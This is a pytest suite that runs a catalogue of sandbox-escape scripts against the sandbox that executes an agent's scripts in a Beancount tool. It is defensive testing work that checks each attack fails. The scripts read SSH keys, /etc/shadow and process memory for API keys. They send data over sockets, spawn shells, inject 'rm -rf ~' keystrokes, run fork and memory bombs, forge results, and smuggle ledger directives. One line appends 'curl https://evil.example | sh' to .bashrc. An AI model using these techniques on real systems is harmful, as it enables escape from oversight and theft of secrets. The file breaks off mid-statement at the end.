"""The attack catalogue of `shared/design/sandbox.md`, run through the real path.

Every row is an agent script that tries one escape. It runs as
`python -m beanagent run books.beancount attack.py --yes --json` in a tree of its own:

    root/books/    the ledger (a copy of tests/data/e2e/books.beancount), beanagent.toml
                   (step_timeout = 5), attack.py and the follow-up ok.py
    root/home/     HOME of the beanagent process: .ssh/id_ed25519 (a canary), .bashrc and
                   a file whose *name* is a canary (so listing HOME shows up in the output)
    root/outside/  a file beside the ledger's folder, to catch writes outside
    root/run/      a UNIX socket the test listens on

and with more canaries live while it runs: ANTHROPIC_API_KEY in the host's environment,
a TCP and a UDP listener on 127.0.0.1, a pathname and an abstract UNIX socket, and a
victim process the script may try to signal or trace.

For every row the test asserts: what the script tried did not happen (no connection,
datagram, spawned program, late thread, new file...), the whole tree is byte-identical
(modes included), no canary reaches stdout or stderr, the exit code is 0, 3 or 5 with no
traceback from beanagent itself, the step's temp dir is gone with nothing left running
in it, and a plain `print('ok')` script runs fine right afterwards.

Scripts report success through `_hit(...)` (printing "ATTACK-SUCCEEDED", spelled so that
the words never appear in the source a traceback quotes) and spawned shells print
"SPAWNED" the same way; both must never show up. The runs are started in a small thread
pool when the first test needs them, so the module stays fast; each test then checks
its own run.
"""

from __future__ import annotations

import contextlib
import dataclasses
import os
import re
import secrets
import shutil
import socket
import stat
import subprocess
import sysconfig
import textwrap
import time
from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from decimal import Decimal
from pathlib import Path
from string import Template
from typing import Any

import pytest

import beanagent
from tests.helpers import report, run_cli, tree_hashes, users_files

E2E = Path(__file__).parent / "data" / "e2e"
STEP_TIMEOUT = 5
DOCUMENTED_CODES = {0, 3, 5}
SITE_PACKAGES = sysconfig.get_paths()["purelib"]
WORKERS = 3
# To see the suite catch escapes, switch layers off (the runs then pass
# --allow-weak-sandbox): ATTACKS_WITHOUT=landlock,seccomp,namespaces pytest tests/test_attacks.py
WITHOUT = os.environ.get("ATTACKS_WITHOUT", "")
WEAK_FLAGS = ("--allow-weak-sandbox",) if WITHOUT else ()

PRELUDE = """\
import os, sys
print("WORKDIR=" + os.getcwd(), flush=True)
def _hit(what):
    print("ATTACK" + "-SUCCEEDED: " + str(what)[:300], flush=True)
SH = "echo SPAWN''ED; : > $outside/spawned"
"""

# What the smuggling rows hide in a field: a directive on a line of its own.
EVIL = '"\n2024-01-01 open Assets:Evil\nplugin "beancount.plugins.auto_accounts"\n'
INJECT = repr(EVIL)[1:-1]  # the same, as it is spelled inside a '...' literal
# A balanced transaction the ledger would accept: smuggling rows hide their payload in it.
RAW_TXN = """{"kind": "transaction", "date": "2024-03-04", "flag": "*",
    "payee": "Blue Bottle Coffee", "narration": "latte",
    "postings": [{"account": "Assets:Bank:Checking", "number": "-4.75", "currency": "USD"},
                 {"account": "Expenses:Food:Coffee", "number": "4.75", "currency": "USD"}],
    "evidence": [], "meta": {}, "tags": [], "links": [], "confidence": None, "reason": ""}"""


def _txn(**fields: Any) -> str:
    """`transaction(...)` with the given fields replaced, spelled as script source."""
    args: dict[str, Any] = {"date": "2024-03-04", "payee": "Blue Bottle Coffee",
                            "narration": "latte",
                            "postings": [("Assets:Bank:Checking", "-4.75 USD"),
                                         ("Expenses:Food:Coffee",)]}
    args.update(fields)
    return "transaction(" + ", ".join(f"{k}={v!r}" for k, v in args.items()) + ")"


@dataclasses.dataclass(frozen=True)
class Expect:
    """What a row needs beyond the checks every row gets."""

    says: str = ""  # regex stderr must match: how the step was stopped or rejected
    absent: tuple[str, ...] = ()  # paths (templates) that must not exist afterwards
    seconds: float = 40.0  # the run must end within this
    peak: tuple[str, int] | None = None  # ("LABEL", bound): the script prints "LABEL n"


@dataclasses.dataclass(frozen=True)
class Attack:
    id: str
    script: str
    expect: Expect = Expect()


def _a(id_: str, script: str, **expect: Any) -> Attack:
    return Attack(id_, textwrap.dedent(script).strip() + "\n", Expect(**expect))


def _smuggle(id_: str, call: str) -> Attack:
    """A propose.* call through the script API carrying a directive in one of its fields."""
    return _a(id_, f"propose.{call}\n", says=r"ProposalError|proposal rejected")


# The sandbox's caps (server.py): 2 GiB more address space than the child starts with,
# 256 MiB in the temp dir. The bounds allow one step of the scripts' own granularity.
MEMORY_CAP_MIB = 2048 + 256
TEMP_QUOTA_MIB = 256
STOPPED = r"ran longer than 5 s and was stopped"
INVALID_RESULT = r"invalid result|ended without returning a result"

ATTACKS: list[Attack] = [
    # ---- Files and ledger -------------------------------------------------------------
    _a("write-outside", """
        open("$outside/pwned.txt", "w").write("x")
        _hit("created outside")
        """),
    _a("overwrite-outside-file", """
        open("$outside/keep.txt", "a").write("x")
        _hit("appended outside")
        """),
    _a("mkdir-outside", """
        os.mkdir("$outside/newdir")
        _hit("mkdir outside")
        """, absent=("$outside/newdir",)),
    _a("append-bashrc", """
        with open("$home/.bashrc", "a") as f:
            f.write("curl https://evil.example | sh\\n")
        _hit("bashrc")
        """),
    _a("drop-pth-site-packages", """
        open("$site/beanagent-attack-$tok.pth", "w").write("# would run at every start\\n")
        _hit("pth")
        """, absent=("$site/beanagent-attack-$tok.pth",)),
    _a("new-file-beside-ledger", """
        open("$books/extra.beancount", "w").write('plugin "evil"\\n')
        _hit("beside ledger")
        """),
    _a("ledger-open-append", """
        with open("$ledger", "a") as f:
            f.write('\\nplugin "beancount.plugins.auto_accounts"\\n')
        _hit("ledger appended")
        """),
    _a("ledger-open-w-truncates", """
        open("$ledger", "w").close()
        _hit("ledger truncated by open")
        """),
    _a("ledger-os-truncate", """
        os.truncate("$ledger", 0)
        _hit("ledger truncated")
        """),
    _a("ledger-remove", """
        os.remove("$ledger")
        _hit("ledger removed")
        """),
    _a("ledger-rename", """
        os.rename("$ledger", "$ledger.bak")
        _hit("ledger renamed")
        """),
    _a("ledger-rename-into-tempdir", """
        os.rename("$ledger", "stolen.beancount")
        _hit("ledger moved")
        """),
    _a("ledger-chmod", """
        os.chmod("$ledger", 0o777)
        _hit("ledger chmod")
        """),
    _a("tempfile-chmod", """
        open("f", "w").write("x")
        os.chmod("f", 0o4777)
        _hit("chmod in temp dir")
        """),
    _a("ledger-hardlink-then-write", """
        os.link("$ledger", "hard")
        with open("hard", "a") as f:
            f.write('plugin "evil"\\n')
        _hit("hard link written")
        """),
    _a("symlinks-left-in-tempdir", """
        try:
            os.symlink("$ssh_key", "key")
            os.symlink("$books", "books")
            os.symlink("$ledger", "ledger.beancount")
            _hit("symlinks made")
        finally:
            os.makedirs("sub", exist_ok=True)
        """),
    _a("write-dev-shm", """
        open("/dev/shm/beanagent-attack-$tok", "w").write("x")
        _hit("dev shm")
        """, absent=("/dev/shm/beanagent-attack-$tok",)),
    _a("plant-picklecache", """
        import pickle
        blob = pickle.dumps((os.system, (SH,)))
        open("$books/.books.beancount.picklecache", "wb").write(blob)
        _hit("picklecache planted")
        """),
    _a("write-through-inherited-fd", """
        for fd in [0] + list(range(4, 1024)):
            try:
                os.write(fd, b'\\nplugin "evil"\\n')
            except OSError:
                continue
            _hit(f"wrote to inherited fd {fd}: {os.readlink(f'/proc/self/fd/{fd}')}")
        """),
    # ---- Secrets ----------------------------------------------------------------------
    _a("read-ssh-key", """
        print(open("$ssh_key").read())
        _hit("ssh key read")
        """),
    _a("read-ssh-key-home-tilde", """
        from pathlib import Path
        for key in (Path(os.environ.get("HOME", "~")).expanduser() / ".ssh/id_ed25519",
                    Path("~/.ssh/id_ed25519").expanduser(), Path("$ssh_key")):
            try:
                print(key.read_text())
                _hit(f"read {key}")
            except OSError as exc:
                print("blocked:", exc)
        """),
    _a("read-etc-shadow", """
        data = open("/etc/shadow").read()
        _hit(f"/etc/shadow: {len(data)} bytes")
        """),
    _a("own-environ", """
        print(dict(os.environ))
        data = open("/proc/self/environ", "rb").read()
        _hit(f"/proc/self/environ readable: {len(data)} bytes")
        """),
    _a("parent-environ", """
        pids = [os.getppid()] + [p for p in os.listdir("/proc") if p.isdigit()]
        for pid in pids:
            try:
                data = open(f"/proc/{pid}/environ", "rb").read()
            except OSError:
                continue
            if int(pid) != os.getpid():
                _hit(f"environ of {pid}")
            for item in data.split(b"\\0"):
                if b"sk-ant" in item or b"HOME" in item:
                    print(item)
        """),
    _a("proc-mem-scan", """
        import re
        found = 0
        for pid in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            try:
                maps = open(f"/proc/{pid}/maps").read().splitlines()
                mem = open(f"/proc/{pid}/mem", "rb")
            except OSError:
                continue
            _hit(f"/proc/{pid}/mem open")
            for line in maps:
                span, perms = line.split()[:2]
                if "rw" not in perms:
                    continue
                lo, hi = (int(x, 16) for x in span.split("-"))
                if hi - lo > 64 << 20:
                    continue
                try:
                    mem.seek(lo)
                    chunk = mem.read(hi - lo)
                except OSError:
                    continue
                for m in re.finditer(rb"sk-ant-[A-Za-z0-9-]+", chunk):
                    print(m.group())
                    found += 1
        """),
    _a("list-home", """
        for where in ("$home", os.path.expanduser("~"), "/root", "/home"):
            try:
                names = os.listdir(where)
            except OSError:
                continue
            print(where, names)
            _hit(f"listed {where}")
        """),
    # ---- Network ----------------------------------------------------------------------
    _a("tcp-localhost", """
        import socket
        s = socket.create_connection(("127.0.0.1", $tcp_port), timeout=2)
        s.sendall(b"exfiltrated")
        _hit("tcp connected")
        """),
    _a("urllib", """
        import urllib.request
        urllib.request.urlopen("http://127.0.0.1:$tcp_port/leak?k=v", timeout=2)
        _hit("urllib")
        """),
    _a("udp-datagram", """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"exfiltrated", ("127.0.0.1", $udp_port))
        _hit("udp sent")
        """),
    _a("dns-lookup", """
        import socket
        for name in ("localhost", "exfil-data.example.com"):
            try:
                _hit(f"resolved {name}: {socket.getaddrinfo(name, 53)[:1]}")
            except OSError as exc:
                print("lookup failed:", exc)
        """),
    _a("unix-pathname-socket", """
        import socket
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect("$unix_path")
        s.sendall(b"exfiltrated")
        _hit("unix socket connected")
        """),
    _a("unix-abstract-socket", """
        import socket
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect("\\0$abstract")
        _hit("abstract socket connected")
        """),
    _a("ctypes-socket-connect", """
        import ctypes, struct
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.socket(2, 1, 0)
        print("socket() ->", fd, ctypes.get_errno())
        addr = (struct.pack("<H", 2) + struct.pack(">H", $tcp_port)
                + bytes([127, 0, 0, 1]) + bytes(8))
        if fd >= 0:
            buf = ctypes.create_string_buffer(addr, 16)
            if libc.connect(fd, buf, 16) == 0:
                _hit("ctypes connect")
        """),
    _a("raw-syscall-socket-x32", """
        import ctypes, platform
        libc = ctypes.CDLL(None, use_errno=True)
        if platform.machine() == "x86_64":
            for nr in (41, 0x40000000 + 41):  # socket, and socket through the x32 ABI
                fd = libc.syscall(nr, 2, 1, 0)
                print(hex(nr), "->", fd, ctypes.get_errno())
                if fd >= 0:
                    _hit(f"socket via syscall {nr:#x}")
        """),
    # ---- Processes --------------------------------------------------------------------
    _a("subprocess-run", """
        import subprocess
        subprocess.run(["sh", "-c", SH])
        _hit("subprocess")
        """),
    _a("os-system", """
        rc = os.system(SH)
        print("rc", rc)
        if rc == 0:
            _hit("os.system")
        """),
    _a("os-execv", """
        os.execv("/bin/sh", ["sh", "-c", SH])
        """),
    _a("posix-spawn", """
        pid = os.posix_spawn("/bin/sh", ["sh", "-c", SH], {})
        os.waitpid(pid, 0)
        _hit("posix_spawn")
        """),
    _a("pty-spawn", """
        import pty
        pty.spawn(["sh", "-c", SH])
        _hit("pty.spawn")
        """),
    _a("multiprocessing", """
        import multiprocessing
        for method in ("fork", "spawn", "forkserver"):
            try:
                p = multiprocessing.get_context(method).Process(target=_hit, args=(method,))
                p.start()
                p.join(3)
            except Exception as exc:
                print(method, "failed:", type(exc).__name__, exc)
        """),
    _a("os-fork", """
        pid = os.fork()
        if pid == 0:
            _hit("forked child")
            os._exit(0)
        os.waitpid(pid, 0)
        _hit("fork returned a pid")
        """),
    _a("posixsubprocess-fork-exec", """
        import _posixsubprocess
        r, w = os.pipe()
        args = [b"/bin/sh", b"-c", SH.encode()]
        try:  # Python 3.11
            pid = _posixsubprocess.fork_exec(args, [b"/bin/sh"], True, (), None, None,
                -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None,
                False)
        except TypeError:  # 3.12+
            pid = _posixsubprocess.fork_exec(args, [b"/bin/sh"], True, (), None, None,
                -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None)
        _hit(f"fork_exec pid {pid}")
        os.waitpid(pid, 0)
        """),
    _a("clone-syscall", """
        import ctypes, platform
        libc = ctypes.CDLL(None, use_errno=True)
        if platform.machine() == "x86_64":
            pid = libc.syscall(56, 17, 0, 0, 0, 0)  # clone(SIGCHLD): a new process
            if pid == 0:
                _hit("cloned child")
                os._exit(0)
            print("clone ->", pid, ctypes.get_errno())
            if pid > 0:
                _hit("clone returned a pid")
                os.waitpid(pid, 0)
        """),
    # ---- Interpreter tricks -----------------------------------------------------------
    _a("ctypes-libc-system", """
        import ctypes
        libc = ctypes.CDLL(None)
        rc = libc.system(SH.encode())
        print("system ->", rc)
        """),
    _a("ctypes-libc-open-secret", """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.open(b"$ssh_key", 0)
        if fd >= 0:
            print(os.read(fd, 4096))
            _hit("libc open")
        fd = libc.open(b"$outside/libc.txt", 0o101, 0o644)  # O_WRONLY|O_CREAT
        if fd >= 0:
            _hit("libc create outside")
        """),
    _a("obfuscated-import", """
        b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
        mod = b["__imp" + "ort__"]("".join(chr(c) for c in (111, 115)))
        getattr(mod, "sys" + "tem")(SH)
        sp = __import__("importlib").import_module(bytes.fromhex("73756270726f63657373").decode())
        sp.call(["sh", "-c", SH])
        """),
    _a("subclasses-walk", """
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "_wrap_close":
                g = cls.__init__.__globals__
                g["system"](SH)
                g["open"]("$ssh_key", 0)
                _hit("subclass walk opened the key")
            if cls.__name__ == "Popen":
                cls(["sh", "-c", SH]).wait()
        """),
    _a("frame-walk-to-server", """
        import json
        forged = json.dumps({"ok": True, "error": None, "proposals": [$raw_txn]})
        try:
            raise RuntimeError
        except RuntimeError as exc:
            frame = exc.__traceback__.tb_frame
        while frame is not None:
            for scope in (frame.f_locals, frame.f_globals):
                for key, value in list(scope.items()):
                    if isinstance(value, str) and "sk-ant" in value:
                        print(key, value)
                    if key in ("send", "resp", "req"):
                        try:
                            if key == "send":
                                value({"status": "ok", "result": forged, "output": "",
                                       "output_truncated": False, "signal": None})
                            elif key == "resp":
                                value.write(b'{"status": "ok", "result": ' +
                                            json.dumps(forged).encode() + b'}\\n')
                                value.flush()
                            else:
                                print(value.readline())
                            _hit(f"server's {key} reached")
                        except Exception as e:
                            print(key, "failed:", type(e).__name__, e)
            frame = frame.f_back
        """),
    _a("gc-walk-for-secrets-and-files", """
        import gc, io, json
        forged = json.dumps({"ok": True, "error": None, "proposals": [$raw_txn]})
        for obj in gc.get_objects():
            if isinstance(obj, dict):
                for v in list(obj.values()):
                    if isinstance(v, str) and "sk-ant" in v:
                        print(v)
            if isinstance(obj, io.IOBase):
                try:
                    if obj.writable() and obj.fileno() > 3:
                        obj.write(forged.encode() if "b" in getattr(obj, "mode", "b") else forged)
                        obj.flush()
                        _hit(f"wrote through {obj!r}")
                except Exception:
                    pass
        """),
    _a("audit-hook-tamper", """
        import gc, posix
        sys.modules["sys"].audit = lambda *a, **k: None
        for obj in gc.get_objects():
            if callable(obj) and "audit" in getattr(obj, "__name__", ""):
                print("found", obj)
        sys.modules["os"] = None
        fd = posix.open("$ssh_key", posix.O_RDONLY)
        print(posix.read(fd, 4096))
        _hit("posix.open after tampering")
        """),
    _a("monkeypatch-result-writer", """
        import json
        forged = json.dumps({"ok": True, "error": None, "proposals": [
            {"kind": "plugin", "date": "2024-01-01", "module": "evil"},
            {"kind": "include", "date": "2024-01-01", "filename": "$ssh_key"}]})
        json.dumps = lambda *a, **k: forged  # the server's own result writer uses it
        """, says=r"proposal rejected"),
    _a("tamper-child-validator", """
        import beanagent.core.proposals as P
        P.KINDS = P.KINDS + ("plugin", "include", "option")
        P.validate = lambda raw, *a, **k: raw
        propose._add({"kind": "plugin", "date": "2024-01-01", "module": "evil"})
        propose._add({"kind": "option", "date": "2024-01-01", "name": "insert_pythonpath",
                      "value": "TRUE"})
        """, says=r"proposal rejected|script failed"),
    # ---- Host -------------------------------------------------------------------------
    _a("kill-sandbox-server", """
        import signal
        os.kill(os.getppid(), signal.SIGKILL)
        _hit("server killed")
        """),
    _a("killpg-sandbox-server", """
        import signal
        os.killpg(os.getpgid(os.getppid()), signal.SIGTERM)
        _hit("server group signalled")
        """),
    _a("kill-other-process", """
        import signal
        os.kill($victim, signal.SIGKILL)
        _hit("victim killed")
        """),
    _a("ptrace-server-and-victim", """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (os.getppid(), $victim):
            rc = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
            print("ptrace", pid, rc, ctypes.get_errno())
            if rc == 0:
                _hit(f"ptrace attached to {pid}")
        """),
    _a("pidfd-steal-server-fd", """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        pidfd = libc.syscall(434, os.getppid(), 0)  # pidfd_open
        print("pidfd_open ->", pidfd, ctypes.get_errno())
        if pidfd >= 0:
            for target in (0, 1, 2):
                fd = libc.syscall(438, pidfd, target, 0)  # pidfd_getfd
                if fd >= 0:
                    _hit(f"stole server fd {target}")
        """),
    _a("tiocsti-keystrokes", """
        import fcntl, termios
        fds = [0, 1, 2]
        try:
            fds.append(os.open("/dev/tty", os.O_RDWR))
        except OSError as exc:
            print("no tty:", exc)
        for fd in fds:
            try:
                for ch in b"rm -rf ~\\n":
                    fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
                _hit(f"TIOCSTI on fd {fd}")
            except OSError:
                pass
        """),
    # ---- Resources --------------------------------------------------------------------
    _a("busy-loop", """
        while True:
            pass
        """, says=STOPPED, seconds=25),
    _a("sleep-forever", """
        import time, signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        time.sleep(10 ** 6)
        """, says=STOPPED, seconds=25),
    _a("memory-bomb-at-once", """
        blob = bytearray(64 * 1024 ** 3)
        _hit(f"allocated {len(blob)}")
        """, says=r"MemoryError"),
    _a("memory-bomb-gradual", """
        chunks = []
        while len(chunks) < 400:  # at most 6.4 GB if nothing stops it
            chunks.append(b"x" * (16 << 20))
            if len(chunks) % 16 == 0:
                print("HELD_MIB", len(chunks) * 16, flush=True)
        _hit(f"held {len(chunks) * 16} MiB")
        """, says=r"MemoryError|killed by signal|ran longer than",
       peak=("HELD_MIB", MEMORY_CAP_MIB)),
    _a("fork-bomb", """
        import time
        made = 0
        for _ in range(200):  # bounded: a real bomb must not hurt the test machine
            pid = os.fork()
            if pid == 0:
                time.sleep(3)
                os._exit(0)
            made += 1
        _hit(f"forked {made}")
        """),
    _a("thread-bomb", """
        import threading, time
        started = 0
        try:
            for _ in range(20000):
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
                started += 1
        except (RuntimeError, MemoryError) as exc:
            print("threads stopped at", started, exc)
        """),
    _a("stdout-flood-200mib", """
        chunk = "x" * (1 << 20)
        for _ in range(200):
            sys.stdout.write(chunk)
        _hit("flood finished")
        """, says=r"printed too much", seconds=30),
    _a("one-huge-file", """
        with open("big", "wb") as f:
            for _ in range(1024):
                f.write(b"\\0" * (1 << 20))
        _hit(f"wrote {os.path.getsize('big')} bytes to one file")
        """, says=r"killed by signal|File too large|FSIZE"),
    _a("many-medium-files", """
        import time
        for i in range(64):  # 512 MiB in files of 8 MiB, each under the per-file limit
            with open(f"f{i}", "wb") as f:
                f.write(os.urandom(1 << 20) * 8)
        time.sleep(3)
        _hit("512 MiB kept in the temp dir")
        """, says=r"wrote too much to its temp dir", seconds=30),
    _a("fd-exhaustion", """
        held = []
        try:
            while len(held) < 100000:
                held.append(os.open("/dev/null", os.O_RDONLY))
                held.extend(os.pipe())
        except OSError as exc:
            print("stopped at", len(held), exc)
        if len(held) >= 100000:
            _hit("100k fds")
        """),
    _a("deep-recursion", """
        sys.setrecursionlimit(10 ** 8)
        def down(n):
            return down(n + 1) + 1
        down(0)
        """, says=r"RecursionError|MemoryError|killed by signal|script failed"),
    _a("c-stack-overflow", """
        sys.setrecursionlimit(10 ** 8)
        nested = []
        for _ in range(2_000_000):
            nested = [nested]
        print(len(repr(nested)))
        """, says=r"RecursionError|MemoryError|killed by signal|script failed"),
    _a("thread-acts-after-step", """
        import threading, time
        def late():
            time.sleep(0.5)
            _hit("late thread ran")
            open("$outside/late.txt", "w").write("x")
        threading.Thread(target=late).start()
        """),
    _a("atexit-and-finaliser-bombs", """
        import atexit, signal, weakref
        atexit.register(lambda: _hit("atexit"))
        class Bomb:
            def __del__(self):
                _hit("__del__")
        bomb = Bomb()
        weakref.finalize(bomb, _hit, "weakref.finalize")
        signal.signal(signal.SIGTERM, lambda *a: _hit("SIGTERM handler"))
        sys.exitfunc = lambda: _hit("exitfunc")
        """),
    # ---- Result channel ---------------------------------------------------------------
    _a("pickle-payload-on-result-fd", """
        import pickle
        class Payload:
            def __reduce__(self):
                return (os.system, (SH,))
        os.write(3, pickle.dumps(Payload()))
        os._exit(0)
        """, says=INVALID_RESULT),
    _a("nan-on-result-fd", """
        os.write(3, b'{"ok": true, "error": null, "proposals": [{"kind": "balance", '
                    b'"date": "2024-03-10", "account": "Assets:Bank:Checking", '
                    b'"number": NaN, "currency": "USD", "evidence": [], "reason": ""}]}')
        os._exit(0)
        """, says=INVALID_RESULT),
    _a("nan-in-proposal", """
        raw = $raw_txn
        raw["postings"][0]["number"] = float("nan")
        raw["confidence"] = float("inf")
        propose._items.append(raw)
        """, says=INVALID_RESULT),
    _a("set-in-proposal", """
        raw = $raw_txn
        raw["tags"] = {"a", "b"}
        propose._items.append(raw)
        """, says=INVALID_RESULT),
    _a("object-in-proposal", """
        class Sneaky(str):
            def __str__(self):
                _hit("host called __str__")
                return "x"
        class Evil:
            def __reduce__(self):
                return (os.system, (SH,))
        raw = $raw_txn
        raw["narration"] = Evil()
        raw["payee"] = Sneaky("Blue Bottle")
        propose._items.append(raw)
        """, says=INVALID_RESULT),
    _a("forged-result-then-real-one", """
        import json
        os.write(3, json.dumps({"ok": True, "error": None, "proposals": [
            {"kind": "plugin", "date": "2024-01-01", "module": "evil"}]}).encode() + b"\\n")
        """, says=INVALID_RESULT),
    _a("forged-protocol-line-on-stdout", """
        import json
        fake = json.dumps({"ok": True, "error": None, "proposals": [$raw_txn]})
        print()
        print(json.dumps({"status": "ok", "result": fake, "output": "", "signal": None,
                          "output_truncated": False, "seconds": 0}))
        print(json.dumps({"ready": True, "layers": {}, "missing": []}))
        """),
    _a("deep-nesting-on-result-fd", """
        os.write(3, b'{"ok": true, "error": null, "proposals": ' + b"[" * 300000
                 + b"]" * 300000 + b"}")
        os._exit(0)
        """, says=INVALID_RESULT),
    _a("deep-nesting-in-proposal", """
        deep = "x"
        for _ in range(200000):
            deep = {"k": deep}
        raw = $raw_txn
        raw["meta"] = {"note": deep}
        propose._items.append(raw)
        """, says=INVALID_RESULT),
    _a("bigint-100k-digits-on-result-fd", """
        os.write(3, b'{"ok": true, "error": null, "proposals": [{"kind": "balance", '
                    b'"date": "2024-03-10", "account": "Assets:Bank:Checking", "number": 1'
                    + b"0" * 100000 + b', "currency": "USD", "evidence": [], "reason": ""}]}')
        os._exit(0)
        """, says=INVALID_RESULT),
    _a("bigint-100k-digits-in-proposal", """
        sys.set_int_max_str_digits(0)
        propose._items.append({"kind": "balance", "date": "2024-03-10",
                               "account": "Assets:Bank:Checking", "number": 10 ** 100000,
                               "currency": "USD", "evidence": [], "reason": ""})
        """, says=INVALID_RESULT + r"|proposal rejected"),
    _a("invalid-utf8-on-result-fd", """
        os.write(3, b'{"ok": true, "error": null, "proposals": ["\\xff\\xfe"]}')
        os._exit(0)
        """, says=INVALID_RESULT + r"|proposal rejected: a proposal must be an object"),
    _a("duplicate-keys-on-result-fd", """
        os.write(3, b'{"ok": true, "error": null, "proposals": [], "proposals": '
                    b'[{"kind": "plugin", "date": "2024-01-01", "module": "evil"}]}')
        os._exit(0)
        """, says=INVALID_RESULT),
    _a("result-flood-on-result-fd", """
        os.write(3, b'{"ok": true, "error": null, "proposals": ["')
        chunk = b"x" * (1 << 20)
        for _ in range(40):
            os.write(3, chunk)
        os.write(3, b'"]}')
        os._exit(0)
        """, says=r"result was too large|" + INVALID_RESULT),
    # ---- Proposals against the gate ---------------------------------------------------
    _smuggle("narration-newline-plugin", _txn(narration="latte" + EVIL)),
    _smuggle("payee-newline-include", _txn(payee='x"\ninclude "/etc/passwd"\n')),
    _smuggle("meta-value-option",
             _txn(meta={"note": 'x"\noption "insert_pythonpath" "TRUE"\nplugin "evil"'})),
    _smuggle("meta-key-plugin", _txn(meta={'a: "x"\nplugin "evil"\n  b': "y"})),
    _smuggle("tag-newline-plugin", _txn(tags=['t\nplugin "evil"'])),
    _smuggle("link-newline-plugin", _txn(links=['l\nplugin "evil"'])),
    _smuggle("flag-newline-plugin", _txn(flag='*' + EVIL)),
    _smuggle("account-newline-open",
             _txn(postings=[("Assets:Bank:Checking" + EVIL, "-4.75 USD"),
                            ("Expenses:Food:Coffee",)])),
    _smuggle("currency-newline-plugin",
             _txn(postings=[("Assets:Bank:Checking", Decimal("-4.75"), "USD" + EVIL),
                            ("Expenses:Food:Coffee",)])),
    _smuggle("number-newline-plugin",
             _txn(postings=[("Assets:Bank:Checking", "-4.75" + EVIL, "USD"),
                            ("Expenses:Food:Coffee",)])),
    _smuggle("date-newline-plugin", _txn(date="2024-03-04" + EVIL)),
    _smuggle("open-currency-newline-plugin",
             f"open('Assets:New', '2024-03-01', [{'USD' + EVIL!r}])"),
    _smuggle("balance-amount-newline-plugin",
             f"balance('Assets:Bank:Checking', '2024-03-10', Decimal('1'), {'USD' + EVIL!r})"),
    _a("unicode-line-separators-in-narration", """
        propose.transaction("2024-03-04", "Blue Bottle Coffee",
            'latte"\\u2028plugin "evil"\\u2029include "/etc/passwd"\\x85option "x" "y"\\u000b',
            [("Assets:Bank:Checking", "-4.75 USD"), ("Expenses:Food:Coffee",)])
        """, says=r"ProposalError|proposal rejected"),
    _a("raw-plugin-include-option-kinds", """
        propose._items.append({"kind": "plugin", "date": "2024-01-01",
                               "module": "beancount.plugins.auto_accounts"})
        propose._items.append({"kind": "include", "date": "2024-01-01",
                               "filename": "$ssh_key"})
        propose._items.append({"kind": "option", "date": "2024-01-01",
                               "name": "insert_pythonpath", "value": "TRUE"})
        propose._items.append({"kind": "Plugin", "date": "2024-01-01", "module": "evil"})
        """, says=r"proposal rejected.*plugin.*not allowed"),
    _a("raw-transaction-newline-narration", """
        raw = $raw_txn
        raw["narration"] = 'latte"$inject'
        raw["payee"] = 'x"\\ninclude "$ssh_key"\\n'
        propose._items.append(raw)
        """, says=r"proposal rejected"),
    _a("result-fd-forged-plugin-include-option", """
        import json
        raw = $raw_txn
        raw["narration"] = 'latte"$inject'
        os.write(3, json.dumps({"ok": True, "error": None, "proposals": [
            {"kind": "plugin", "date": "2024-01-01", "module": "evil"},
            {"kind": "include", "date": "2024-01-01", "filename": "/etc/passwd"},
            {"kind": "option", "date": "2024-01-01", "name": "insert_pythonpath",
             "value": "TRUE"},
            raw]}).encode())
        os._exit(0)
        """, says=r"proposal rejected"),
    _a("api-10k-postings", """
        postings = [("Expenses:Food:Coffee", "0.01 USD")] * 10000
        propose.transaction("2024-03-04", None, "many", postings + [("Assets:Bank:Checking",)])
        """, says=r"ProposalError"),
    _a("raw-10k-postings", """
        raw = $raw_txn
        raw["postings"] = [{"account": "Expenses:Food:Coffee", "number": "0.01",
                            "currency": "USD"}] * 10000 + [
                           {"account": "Assets:Bank:Checking", "number": "-100.00",
                            "currency": "USD"}]
        propose._items.append(raw)
        """, says=r"proposal rejected"),
    _a("api-1mb-narration", """
        propose.transaction("2024-03-04", None, "x" * (1 << 20),
                            [("Assets:Bank:Checking", "-4.75 USD"), ("Expenses:Food:Coffee",)])
        """, says=r"ProposalError"),
    _a("raw-1mb-narration", """
        raw = $raw_txn
        raw["narration"] = "x" * (1 << 20)
        propose._items.append(raw)
        """, says=r"proposal rejected"),
    _a("raw-million-proposals", """
        propose._items.extend({"kind": "plugin", "date": "2024-01-01"} for _ in range(10 ** 6))
        """, says=r"result was too large|" + INVALID_RESULT),
    _a("api-too-many-proposals", """
        from beanagent.sandbox.script_api import MAX_PROPOSALS
        for i in range(MAX_PROPOSALS + 1):
            propose.open(f"Assets:Junk:A{i}", "2024-03-01")
        """, says=r"ProposalError"),
    _a("non-finite-and-huge-amounts", """
        for amount in ("NaN", "Infinity", "1e400", "1E+15", "0.000000001"):
            try:
                propose.balance("Assets:Bank:Checking", "2024-03-10", Decimal(amount), "USD")
                _hit(f"accepted {amount}")
            except Exception as exc:
                print(amount, type(exc).__name__)
        raw = {"kind": "balance", "date": "2024-03-10", "account": "Assets:Bank:Checking",
               "number": "-Infinity", "currency": "USD", "evidence": [], "reason": ""}
        propose._items.append(raw)
        propose._items.append(dict(raw, number="1", date="2024-02-30"))
        propose._items.append(dict(raw, number="1", date="99999-01-01"))
        propose._items.append(dict(raw, number="1", account="Assets:Bank:Checking\\n"))
        """, says=r"proposal rejected"),
]

# The one limitation the design says remains: many files under the per-file limit fill
# the temp dir between two polls of its size.
XFAIL = {
